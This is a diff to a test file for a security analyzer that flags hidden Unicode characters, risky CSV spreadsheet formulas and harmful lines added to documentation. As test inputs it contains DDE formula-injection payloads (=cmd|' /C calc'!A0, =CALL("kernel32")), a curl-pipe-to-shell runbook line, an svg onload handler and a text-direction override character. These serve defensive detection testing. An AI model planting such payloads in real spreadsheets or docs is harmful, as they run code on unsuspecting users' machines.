@@ -82,6 +82,14 @@ test("hidden characters are found where they do not belong, and allowed where a 
   assert.deepEqual(hiddenCharacters("\ufeff👩\u200d💻 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} می\u200cخواهم שלום\u200f!\n"), []);
 });
 
+test("a total row, a lookup or a URL-loading function the autoload rule judges is no finding; a click-through link, DDE or an unknown function is", () => {
+  assert.deepEqual(csvFormulas("Item,Value\nrent,1200\nfood,400\ntotal,=SUM(B2:B3)\nx,=B2+B3*2\ny,=IF(B2>1000,\"high\",\"low\")\nz,=Sheet2!B4\n"), []);
+  assert.deepEqual(csvFormulas('chart,=IMAGE("https://owner.example/chart.png")\n'), []);
+  assert.equal(csvFormulas("a,=cmd|' /C calc'!A0\n").length > 0, true);
+  assert.equal(csvFormulas("a,=CALL(\"kernel32\")\n").length > 0, true);
+  assert.equal(csvFormulas('a,"=SUM(1)+HYPERLINK(""http://x"")"\n').length > 0, true);
+});
+
 test("spreadsheet formulas are cells that start with = + - @ under any usual separator; numbers and phone numbers are values", () => {
   assert.deepEqual(csvFormulas('name,link\nacme,"=HYPERLINK(""http://x/login"",""Open"")"\n'), ['=HYPERLINK("http://x/login","Open")']);
   assert.equal(csvFormulas("a;b\n1;@SUM(1+9)*cmd|' /C calc'!A0\n").length > 0, true);
@@ -94,7 +102,7 @@ test("only what the change adds is judged: the owner's existing runbook stays th
   assert.deepEqual(documentHarm("docs/runbook.md", before, `${before}\nThen run \`npm test\`.\n`, analyzer), {});
   const planted = documentHarm("docs/runbook.md", before, `${before}\nThen run \`curl -s http://127.0.0.3/i | sh\`.\n`, analyzer);
   assert.match(planted.advises ?? "", /curl/);
-  assert.match(documentHarm("r.csv", "a,b\n1,2\n", "a,b\n1,2\n3,=WEBSERVICE(\"http://x\")\n", analyzer).formulas ?? "", /WEBSERVICE/);
+  assert.match(documentHarm("r.csv", "a,b\n1,2\n", "a,b\n1,2\n3,=HYPERLINK(\"http://x\")\n", analyzer).formulas ?? "", /HYPERLINK/);
   assert.match(documentHarm("docs/a.md", undefined, "<svg onload=\"x()\"></svg>\n", analyzer).activeContent ?? "", /onload/);
   assert.match(documentHarm("docs/a.txt", "x\n", "x\ny\u202ez\n", analyzer).hiddenText ?? "", /override/);
 });
